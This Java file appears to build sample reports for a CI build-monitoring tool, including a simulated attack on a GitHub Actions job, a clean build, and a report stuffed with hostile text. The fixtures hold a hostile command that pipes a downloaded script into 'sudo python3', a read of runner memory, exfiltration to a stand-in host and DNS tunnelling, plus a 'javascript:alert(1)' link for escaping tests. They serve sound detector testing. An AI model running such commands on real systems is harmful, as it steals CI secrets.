package eyas.report.html;

import eyas.event.SourceCounters;
import eyas.report.model.AlertFacts;
import eyas.report.model.CollectedRows;
import eyas.report.model.ConnectionFacts;
import eyas.report.model.ConnectionFacts.Resolution;
import eyas.report.model.ConnectionFacts.Scope;
import eyas.report.model.ContainerFacts;
import eyas.report.model.Coverage;
import eyas.report.model.DnsLookupFacts;
import eyas.report.model.DnsTunnelFacts;
import eyas.report.model.Enrichments;
import eyas.report.model.ExecFacts;
import eyas.report.model.ExecutableFacts;
import eyas.report.model.FileFacts;
import eyas.report.model.FilterFacts;
import eyas.report.model.JobFacts;
import eyas.report.model.JobReport;
import eyas.report.model.Overhead;
import eyas.report.model.PersistenceFacts;
import eyas.report.model.PrivilegeFacts;
import eyas.report.model.ProcessFacts;
import eyas.report.model.RuleFacts;
import eyas.report.model.ScriptFacts;
import eyas.report.model.StepFacts;
import eyas.rules.model.Priority;
import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.jspecify.annotations.Nullable;

/** Creates sample reports: an attack in a build, one with hostile text everywhere, and one of any size. */
final class SampleReports {
    private static final long START = 1_790_000_000_000_000_000L;
    private static final long SECOND = 1_000_000_000L;

    private final List<ProcessFacts> processes = new ArrayList<>();
    private final List<ConnectionFacts> connections = new ArrayList<>();
    private final List<FileFacts> files = new ArrayList<>();
    private final List<AlertFacts> alerts = new ArrayList<>();
    private final List<StepFacts> steps = new ArrayList<>();

    private SampleReports() {}

    /** Writes the page of {@code report} into {@code directory}. */
    static Path page(Path directory, String name, JobReport report) throws IOException {
        Path file = directory.resolve(name + ".html");
        try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(file))) {
            HtmlReport.write(report, out);
        }
        return file;
    }

    private static long at(double seconds) {
        return START + (long) (seconds * SECOND);
    }

    private int process(int parent, int step, double from, double to, int exit, List<Integer> rules, String command) {
        int id = processes.size();
        String executable = command.split(" ", 2)[0];
        String name = executable.substring(executable.lastIndexOf('/') + 1);
        processes.add(new ProcessFacts(
                id,
                parent,
                4_000L + id,
                name.substring(0, Math.min(15, name.length())),
                executable,
                command,
                "/home/runner/work/app",
                id % 7 == 3 ? 0 : 1001,
                id % 7 == 3 ? "root" : "runner",
                at(from),
                to < 0 ? 0 : at(to),
                to < 0 ? -1 : exit,
                List.of(new ExecFacts(at(from), 0, command)),
                1,
                step,
                rules.isEmpty() ? -1 : 0,
                -1,
                rules,
                !rules.isEmpty(),
                to < 0 && step >= 0,
                false,
                false));
        return id;
    }

    private void offending(int process) {
        for (int at = process; at >= 0; at = processes.get(at).parent()) {
            ProcessFacts old = processes.get(at);
            processes.set(
                    at,
                    new ProcessFacts(
                            old.id(),
                            old.parent(),
                            old.pid(),
                            old.name(),
                            old.executable(),
                            old.commandLine(),
                            old.directory(),
                            old.userId(),
                            old.user(),
                            old.startTime(),
                            old.endTime(),
                            old.exitCode(),
                            old.execs(),
                            old.execCount(),
                            old.step(),
                            old.script(),
                            old.container(),
                            old.rules(),
                            true,
                            old.outlivedStep(),
                            old.reparented(),
                            old.hidden()));
        }
    }

    private void connection(
            int process, String address, int port, @Nullable String name, Scope scope, double time, long sent) {
        connections.add(new ConnectionFacts(
                connections.size(),
                false,
                address,
                port,
                "tcp",
                scope,
                name,
                name == null ? 0 : at(time - 0.1),
                null,
                name == null ? Resolution.NEVER : Resolution.RESOLVED,
                process,
                processes.get(process).step(),
                -1,
                at(time),
                at(time + 1),
                1,
                0,
                sent,
                sent * 3));
    }

    private void file(
            int process, String path, FileFacts.Action action, String credential, String surface, double time) {
        files.add(new FileFacts(
                files.size(),
                path,
                FileFacts.Place.WORKSPACE,
                List.of(new FileFacts.Touch(action, process, at(time), 1, "")),
                1,
                credential,
                surface,
                false,
                -1));
    }

    private void step(String name, String action, double from, double to) {
        steps.add(new StepFacts(
                steps.size(),
                "github",
                "ci",
                "build",
                name,
                action,
                action.isEmpty() ? "" : "v4",
                at(from),
                at(to),
                10,
                "high",
                "runner",
                "",
                0,
                "",
                12 + steps.size()));
    }

    /** Returns the report of a build in which a package's script read the runner's memory and sent it away. */
    static JobReport attack() {
        SampleReports it = new SampleReports();
        it.step("checkout", "actions/checkout", 0.2, 3.1);
        it.step("changed-files", "acme/changed-files", 3.2, 19);
        it.step("install", "", 19.2, 61);
        it.step("build", "", 61.5, 118);
        int listener = it.process(-1, -1, 0, -1, 0, List.of(), "/home/runner/bin/Runner.Listener run");
        int worker =
                it.process(listener, -1, 0.1, 119, 0, List.of(), "/home/runner/bin/Runner.Worker spawnclient 115 118");
        int checkout = it.process(worker, 0, 0.3, 3, 0, List.of(), "/usr/bin/node dist/index.js");
        int git = it.process(
                checkout, 0, 0.6, 2.8, 0, List.of(), "/usr/bin/git -c protocol.version=2 fetch --depth=1 origin");
        it.connection(git, "140.82.121.3", 443, "github.com", Scope.PUBLIC, 0.8, 18_200);
        int action = it.process(worker, 1, 3.3, 18.9, 0, List.of(), "/usr/bin/node dist/index.js --since main");
        int shell = it.process(
                action,
                1,
                6,
                14,
                0,
                List.of(),
                "/bin/bash -c curl -sSf https://gist.example/memdump.py | sudo python3");
        int curl = it.process(shell, 1, 6.1, 6.9, 0, List.of(), "/usr/bin/curl -sSf https://gist.example/memdump.py");
        it.connection(curl, "185.199.108.133", 443, "gist.example", Scope.PUBLIC, 6.2, 720);
        int sudo = it.process(shell, 1, 6.1, 13.8, 0, List.of(), "/usr/bin/sudo python3");
        int python = it.process(sudo, 1, 6.3, 13.7, 0, List.of(0, 1), "/usr/bin/python3 -");
        it.file(python, "/proc/4001/mem", FileFacts.Action.READ, "runner memory", "", 7.5);
        it.file(python, "/tmp/.out", FileFacts.Action.CREATED, "", "", 8.4);
        it.file(python, "/home/runner/.bashrc", FileFacts.Action.WRITTEN, "", "shell start-up file", 9);
        it.connection(python, "45.155.205.233", 8443, null, Scope.PUBLIC, 9.4, 1_480_220);
        int npm = it.process(worker, 2, 19.3, 60, 0, List.of(), "/usr/bin/node /usr/bin/npm ci");
        it.file(
                npm,
                "/home/runner/work/_temp/_runner_file_commands/set_env_0b1c2d",
                FileFacts.Action.WRITTEN,
                "",
                "runner command file",
                21);
        it.connection(npm, "104.16.3.35", 443, "registry.npm.example", Scope.PUBLIC, 20, 92_100);
        it.file(npm, "/home/runner/work/app/node_modules/left-pad/index.js", FileFacts.Action.CREATED, "", "", 24);
        int make = it.process(worker, 3, 61.6, 117, 2, List.of(), "/usr/bin/make -j2 all");
        for (int i = 0; i < 24; i++) {
            it.process(
                    make,
                    3,
                    62 + 2 * i,
                    64 + 2 * i,
                    i == 20 ? 1 : 0,
                    List.of(),
                    "/usr/bin/cc -O2 -c src/part" + i + ".c -o out/part" + i + ".o");
        }
        it.connection(make, "127.0.0.1", 5432, null, Scope.LOOPBACK, 70, 400);
        it.offending(python);
        for (int i = 0; i < 7; i++) {
            it.alerts.add(new AlertFacts(
                    i,
                    i < 5 ? 0 : 1,
                    i < 5 ? Priority.CRITICAL : Priority.WARNING,
                    at(7.5 + i),
                    9_000 + i,
                    i < 5
                            ? "Runner memory read (file=/proc/4001/mem command=python3 - parent=sudo user=root)"
                            : "Connection to an address that no lookup answered (45.155.205.233:8443)",
                    python,
                    1,
                    -1));
        }
        List<RuleFacts> rules = List.of(
                new RuleFacts(
                        0,
                        "Runner memory read",
                        "A process reads the memory of the runner, where all secrets of the job lie.",
                        Priority.CRITICAL,
                        List.of("T1003", "cicd"),
                        5,
                        List.of(python)),
                new RuleFacts(
                        1,
                        "Connection without lookup",
                        "No lookup of this job led to the address: it was carried along.",
                        Priority.WARNING,
                        List.of("network"),
                        2,
                        List.of(python)));
        return it.report(rules, enrichments(), "GitHub Actions job build");
    }

    /** Returns the report of a build without findings. */
    static JobReport clean() {
        SampleReports it = new SampleReports();
        it.step("build", "", 0.2, 118);
        int make = it.process(-1, 0, 0, 118, 0, List.of(), "/usr/bin/make all");
        int npm = it.process(make, 0, 1, 60, 0, List.of(), "/usr/bin/node /usr/bin/npm ci");
        it.connection(npm, "104.16.3.35", 443, "registry.npm.example", Scope.PUBLIC, 20, 92_100);
        it.connection(npm, "104.16.3.36", 443, "registry.npm.example", Scope.PUBLIC, 21, 300);
        it.connection(npm, "127.0.0.1", 5432, null, Scope.LOOPBACK, 22, 40);
        it.file(npm, "/home/runner/work/app/out/app.js", FileFacts.Action.CREATED, "", "", 24);
        it.file(npm, "/home/runner/.npmrc", FileFacts.Action.READ, "registry token", "", 2);
        List<ExecutableFacts> executables = List.of(new ExecutableFacts(
                0,
                "/usr/bin/node",
                null,
                ExecutableFacts.Hash.NONE,
                "",
                12,
                3,
                at(1),
                0,
                -1,
                -1,
                false,
                ExecutableFacts.Origin.FOUND,
                List.of()));
        return JobReport.of(
                        new JobFacts("make all", START, at(120), 0, "/home/runner/work/app", "runner-7", ""),
                        new Coverage("the job's processes", 4_112, 0, 0, 0, 0, List.of(), List.of()),
                        new Overhead(340_000_000L, 96_000, 120, 80))
                .steps(it.steps)
                .alerts(CollectedRows.of(List.of(), 0))
                .processes(CollectedRows.of(it.processes, 0))
                .executables(CollectedRows.of(executables, 0))
                .connections(CollectedRows.of(it.connections, 0))
                .lookups(CollectedRows.of(List.of(), 0))
                .files(CollectedRows.of(it.files, 0))
                .containers(CollectedRows.of(List.of(), 0))
                .persistence(CollectedRows.of(List.of(), 0))
                .end();
    }

    private static Enrichments enrichments() {
        return new Enrichments(
                List.of(
                        new Enrichments.Reputation(
                                "VirusTotal",
                                Enrichments.Subject.ADDRESS,
                                "45.155.205.233",
                                Enrichments.Level.MALICIOUS,
                                "12 engines say malicious, 2 suspicious, of 94",
                                "https://www.virustotal.com/gui/ip-address/45.155.205.233"),
                        new Enrichments.Reputation(
                                "VirusTotal",
                                Enrichments.Subject.ADDRESS,
                                "140.82.121.3",
                                Enrichments.Level.HARMLESS,
                                "0 engines say malicious",
                                null)),
                new Enrichments.Summary(
                        "gpt-4o-mini",
                        "**The job was attacked: a third-party action read the runner's memory and sent it out.** [A0]\n\n- Step *changed-files* ran `curl | sudo python3` [P5], which read `/proc/4001/mem` [P8].\n- 1.4 MiB went to an address that nothing looked up [C2].\n- Revoke every secret of this job and pin the action by commit."),
                List.of("VirusTotal: no results for 3 of 9 addresses and hashes because their queries failed"));
    }

    private JobReport report(List<RuleFacts> rules, Enrichments enrichments, String command) {
        List<ExecutableFacts> executables = List.of(
                new ExecutableFacts(
                        0,
                        "/usr/bin/python3",
                        "ab".repeat(32),
                        ExecutableFacts.Hash.AT_EXEC,
                        "",
                        12,
                        3,
                        at(6.3),
                        0,
                        -1,
                        -1,
                        false,
                        ExecutableFacts.Origin.FOUND,
                        List.of()),
                new ExecutableFacts(
                        1,
                        "/tmp/.out",
                        null,
                        ExecutableFacts.Hash.NONE,
                        "it was gone",
                        13,
                        1,
                        at(9),
                        0,
                        -1,
                        0,
                        false,
                        ExecutableFacts.Origin.DOWNLOADED,
                        List.of(new ExecutableFacts.Provenance(
                                "/tmp/.out", 0, "curl", "10.1.0.4:40002->203.0.113.9:443"))));
        return JobReport.of(
                        new JobFacts(
                                command,
                                START,
                                at(120),
                                0,
                                "/home/runner/work/app",
                                "runner-7",
                                ".github/workflows/ci.yml"),
                        new Coverage(
                                "the job's processes",
                                1_074_112,
                                0,
                                0,
                                12,
                                3,
                                List.of(new SourceCounters.Cause("ring full", 0)),
                                List.of("12 files beyond the limit are not listed")),
                        new Overhead(2_340_000_000L, 96_000, 120, 80))
                .steps(steps)
                .scripts(List.of(
                        new ScriptFacts(0, "npm", "evil", "1.0.1", "postinstall", true, "high", "manager", "npm", 40)))
                .rules(rules)
                .alerts(CollectedRows.of(alerts, 0))
                .processes(CollectedRows.of(processes, 0))
                .executables(CollectedRows.of(executables, 0))
                .connections(CollectedRows.of(connections, 0))
                .lookups(CollectedRows.of(
                        List.of(new DnsLookupFacts(
                                0,
                                "gist.example",
                                "A",
                                "127.0.0.53:53",
                                "udp",
                                0,
                                1 % Math.max(1, steps.size()),
                                -1,
                                at(6.1),
                                1,
                                1,
                                "NOERROR",
                                List.of("A 185.199.108.133"))),
                        0))
                .suspicions(List.of(new DnsTunnelFacts(
                        0,
                        "exfil.example",
                        "40 names with random labels",
                        40,
                        "a9f3c0d17be2.exfil.example",
                        at(11),
                        0)))
                .files(new CollectedRows<>(true, files, 12, 3))
                .containers(CollectedRows.of(
                        List.of(new ContainerFacts(
                                0, "0123456789ab", "docker", "db", "postgres:17", "", true, at(2), 3)),
                        0))
                .privileges(CollectedRows.of(
                        List.of(new PrivilegeFacts(0, "user", "runner", "root", 0, -1, at(6.2), 1)), 0))
                .persistence(CollectedRows.of(
                        List.of(new PersistenceFacts(
                                0, "shell start-up file", "/home/runner/.bashrc", -1, 0, -1, at(9))),
                        0))
                .filters(List.of(new FilterFacts("written_files", "build output", "fd.name startswith /tmp/build", 3)))
                .enrichments(enrichments)
                .end();
    }

    /** Returns a report with {@code text} everywhere the watched programs choose text. */
    static JobReport hostile(String text) {
        SampleReports it = new SampleReports();
        it.steps.add(new StepFacts(
                0, "github", text, text, text, text, text, at(0), at(9), 1, "high", text, text, 7, text, 0));
        int p = it.process(-1, 0, 0, 5, 0, List.of(0), text);
        it.process(p, 0, 1, 2, 1, List.of(), "/bin/sh " + text);
        it.connections.add(new ConnectionFacts(
                0,
                false,
                text,
                443,
                text,
                Scope.PUBLIC,
                text,
                at(1),
                null,
                Resolution.RESOLVED,
                p,
                0,
                -1,
                at(1),
                at(2),
                1,
                0,
                1,
                1));
        it.file(p, text, FileFacts.Action.WRITTEN, text, text, 1);
        it.alerts.add(new AlertFacts(0, 0, Priority.CRITICAL, at(1), 1, text, p, 0, -1));
        Enrichments others = new Enrichments(
                List.of(new Enrichments.Reputation(
                        text,
                        Enrichments.Subject.ADDRESS,
                        text,
                        Enrichments.Level.MALICIOUS,
                        text,
                        "javascript:alert(1)")),
                new Enrichments.Summary(text, text + "\n- " + text + " [P0] [P99]\n# " + text),
                List.of(text));
        return it.report(
                List.of(new RuleFacts(0, text, text, Priority.CRITICAL, List.of(text), 1, List.of(p))), others, text);
    }

    /** Returns a report with {@code count} processes, a tenth of them in one chain; a deep one triggered a rule. */
    static JobReport large(int count) {
        SampleReports it = new SampleReports();
        it.step("build", "", 0, 119);
        int chain = it.process(-1, 0, 0, -1, 0, List.of(), "/sbin/init");
        int root = chain;
        for (int i = 1; i < count; i++) {
            double time = 119.0 * i / count;
            boolean deep = i % 10 == 0;
            int id = it.process(
                    deep ? chain : i % 3 == 0 ? chain : root,
                    0,
                    time,
                    time + 0.2,
                    i % 97 == 0 ? 1 : 0,
                    i == count - 1 ? List.of(0) : List.of(),
                    "/usr/bin/cc -O2 -c src/unit" + i + ".c");
            if (deep) {
                chain = id;
            }
        }
        it.offending(count - 1);
        for (int i = 0; i < count / 2; i++) {
            it.file(i, "/home/runner/work/out/unit" + i + ".o", FileFacts.Action.CREATED, "", "", 1 + i % 100);
        }
        it.alerts.add(new AlertFacts(0, 0, Priority.CRITICAL, at(119), 1, "deep down", count - 1, 0, -1));
        return it.report(
                List.of(new RuleFacts(0, "Deep down", "", Priority.WARNING, List.of(), 1, List.of(count - 1))),
                Enrichments.NONE,
                "a large build");
    }
}
